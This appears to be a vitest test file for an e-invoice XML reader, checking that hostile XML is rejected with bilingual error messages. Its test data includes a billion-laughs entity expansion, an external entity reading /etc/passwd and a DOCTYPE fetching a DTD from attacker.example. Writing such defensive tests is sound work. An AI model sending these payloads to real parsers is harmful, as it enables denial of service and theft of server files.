/**
 * Issue 55: an e-invoice's XML comes from a stranger. Entity expansion (a billion laughs), external entities, deep
 * nesting, too many elements and too many bytes are refused before any parser sees them, each with a 4xx and a key
 * of the message catalogue worded in both languages; so are malformed XML, other XML and what lacks an invoice's
 * number or date.
 */
import { describe, expect, it } from 'vitest';
import { EInvoiceError, MAX_XML_DEPTH, MAX_XML_ELEMENTS, readEInvoice } from '../../server/einvoice';
import { renderMessage } from '../../server/messages';

const UBL_OPEN = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">';

/** The refusal reading a text gives (or the invoice, which fails the expectations). */
const refusal = (text: string | Buffer) => readEInvoice(typeof text === 'string' ? Buffer.from(text) : text).catch((error: unknown) => error);

/** A small UBL invoice, with `extra` at its end and `without` elements left out. */
function ubl({ extra = '', without = [] as string[] } = {}): string {
  const parts: Record<string, string> = {
    ID: '<cbc:ID>F-1</cbc:ID>',
    IssueDate: '<cbc:IssueDate>2026-11-02</cbc:IssueDate>',
    DocumentCurrencyCode: '<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>',
    Supplier: '<cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>Proveedor &amp; Cía</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>',
    Totals: '<cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount currencyID="EUR">100.00</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount currencyID="EUR">121.00</cbc:TaxInclusiveAmount></cac:LegalMonetaryTotal>',
  };
  return `<?xml version="1.0" encoding="UTF-8"?>${UBL_OPEN}${Object.entries(parts).filter(([name]) => !without.includes(name)).map(([, part]) => part).join('')}${extra}</Invoice>`;
}

describe('hostile XML is refused before parsing', () => {
  it('reads the small invoice these refusals start from', async () => {
    expect(await readEInvoice(Buffer.from(ubl()))).toMatchObject({ number: 'F-1', issueDate: '2026-11-02', seller: { name: 'Proveedor & Cía' }, totals: { net: 100, tax: 21, total: 121 }, lines: [] });
  });

  it('refuses a billion laughs (entity expansion): 422, einvoice.xmlDoctype', async () => {
    const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`)].join('');
    const error = await refusal(`<?xml version="1.0"?><!DOCTYPE Invoice [${laughs}]>${UBL_OPEN}<cbc:ID>&lol9;</cbc:ID></Invoice>`);
    expect(error).toBeInstanceOf(EInvoiceError);
    expect(error).toMatchObject({ statusCode: 422, key: 'einvoice.xmlDoctype' });
  });

  it('refuses an external entity (a file of the server) and a DOCTYPE in any case: 422, einvoice.xmlDoctype', async () => {
    expect(await refusal(`<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${UBL_OPEN}<cbc:ID>&xxe;</cbc:ID></Invoice>`)).toMatchObject({ statusCode: 422, key: 'einvoice.xmlDoctype' });
    expect(await refusal(`<?xml version="1.0"?><!doctype Invoice SYSTEM "http://attacker.example/x.dtd">${UBL_OPEN}</Invoice>`)).toMatchObject({ statusCode: 422, key: 'einvoice.xmlDoctype' });
    // An entity declared further in is refused too, not only one after the prologue.
    expect(await refusal(ubl({ extra: '<!ENTITY x "y">' }))).toMatchObject({ statusCode: 422, key: 'einvoice.xmlDoctype' });
  });

  it(`refuses a 100,000-deep nesting: 422, einvoice.xmlTooDeep naming the limit (${MAX_XML_DEPTH})`, async () => {
    const depth = 100_000;
    const error = await refusal(ubl({ extra: `${'<cbc:Note>'.repeat(depth)}x${'</cbc:Note>'.repeat(depth)}` }));
    expect(error).toMatchObject({ statusCode: 422, key: 'einvoice.xmlTooDeep', params: { maximum: 64 } });
    // Sixty levels, as deep as a real document never goes, are still read.
    expect(await readEInvoice(Buffer.from(ubl({ extra: `${'<cbc:Note>'.repeat(60)}x${'</cbc:Note>'.repeat(60)}` })))).toMatchObject({ number: 'F-1' });
  });

  it(`refuses more than ${MAX_XML_ELEMENTS} elements: 422, einvoice.xmlTooManyElements`, async () => {
    const error = await refusal(ubl({ extra: '<cbc:Note/>'.repeat(MAX_XML_ELEMENTS) }));
    expect(error).toMatchObject({ statusCode: 422, key: 'einvoice.xmlTooManyElements', params: { maximum: 200_000 } });
  });

  it('refuses more than 5 MB of XML: 413, einvoice.xmlTooLarge', async () => {
    const error = await refusal(ubl({ extra: `<cbc:Note>${'x'.repeat(5 * 1024 * 1024)}</cbc:Note>` }));
    expect(error).toMatchObject({ statusCode: 413, key: 'einvoice.xmlTooLarge', params: { maximum: 5 } });
  });

  it('refuses malformed XML (422, einvoice.xmlMalformed), whatever its start says', async () => {
    expect(await refusal(ubl().replace('</cbc:ID>', ''))).toMatchObject({ statusCode: 422, key: 'einvoice.xmlMalformed' });
    expect(await refusal(ubl().slice(0, -12))).toMatchObject({ statusCode: 422, key: 'einvoice.xmlMalformed' });
  });
});

describe('what is not an e-invoice read here', () => {
  it('refuses another XML, FacturaE 3.1, a photo and a text: 422, einvoice.notEInvoice', async () => {
    for (const other of [
      '<?xml version="1.0"?><Invoice xmlns="urn:example:invoice"><ID>1</ID></Invoice>',
      '<fe:Facturae xmlns:fe="http://www.facturae.es/Facturae/2007/v3.1/Facturae"><FileHeader/></fe:Facturae>',
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]),
      'Factura 12: total 121,00 EUR',
    ]) {
      expect(await refusal(other)).toMatchObject({ statusCode: 422, key: 'einvoice.notEInvoice' });
    }
  });

  it('refuses an invoice without its number, its date or its seller, naming the element (422, einvoice.missing)', async () => {
    expect(await refusal(ubl({ without: ['ID'] }))).toMatchObject({ statusCode: 422, key: 'einvoice.missing', params: { what: 'ID' } });
    expect(await refusal(ubl({ without: ['IssueDate'] }))).toMatchObject({ statusCode: 422, key: 'einvoice.missing', params: { what: 'IssueDate' } });
    expect(await refusal(ubl().replace('2026-11-02', '2026-02-30'))).toMatchObject({ statusCode: 422, key: 'einvoice.missing', params: { what: 'IssueDate' } });
    expect(await refusal(ubl({ without: ['Supplier'] }))).toMatchObject({ statusCode: 422, key: 'einvoice.missing', params: { what: 'AccountingSupplierParty' } });
  });

  it('refuses a FacturaE batch of several invoices (422, einvoice.manyInvoices)', async () => {
    const invoice = '<Invoice><InvoiceHeader><InvoiceNumber>1</InvoiceNumber></InvoiceHeader></Invoice>';
    const batch = `<fe:Facturae xmlns:fe="http://www.facturae.gob.es/formato/Versiones/Facturaev3_2_2.xml"><Invoices>${invoice}${invoice}${invoice}</Invoices></fe:Facturae>`;
    expect(await refusal(batch)).toMatchObject({ statusCode: 422, key: 'einvoice.manyInvoices', params: { count: 3 } });
  });
});

describe('the refusals in words', () => {
  it('says in Spanish and English which formats are read, and which limit was passed', () => {
    expect(renderMessage('es', 'einvoice.notEInvoice')).toBe('Este XML no es una factura electrónica que sepamos leer (FacturaE 3.2.x, UBL 2.1, CII).');
    expect(renderMessage('en', 'einvoice.notEInvoice')).toBe('This XML is not an e-invoice we can read (FacturaE 3.2.x, UBL 2.1, CII).');
    expect(renderMessage('es', 'einvoice.xmlTooDeep', { maximum: 64 })).toContain('más de 64 niveles');
    expect(renderMessage('en', 'einvoice.xmlTooManyElements', { maximum: 200_000 })).toContain('more than 200,000 elements');
    expect(renderMessage('es', 'einvoice.xmlTooLarge', { maximum: 5 })).toContain('más de 5 MB');
    expect(renderMessage('en', 'einvoice.manyInvoices', { count: 3 })).toBe('This FacturaE holds 3 invoices: send each invoice in a file of its own.');
  });
});
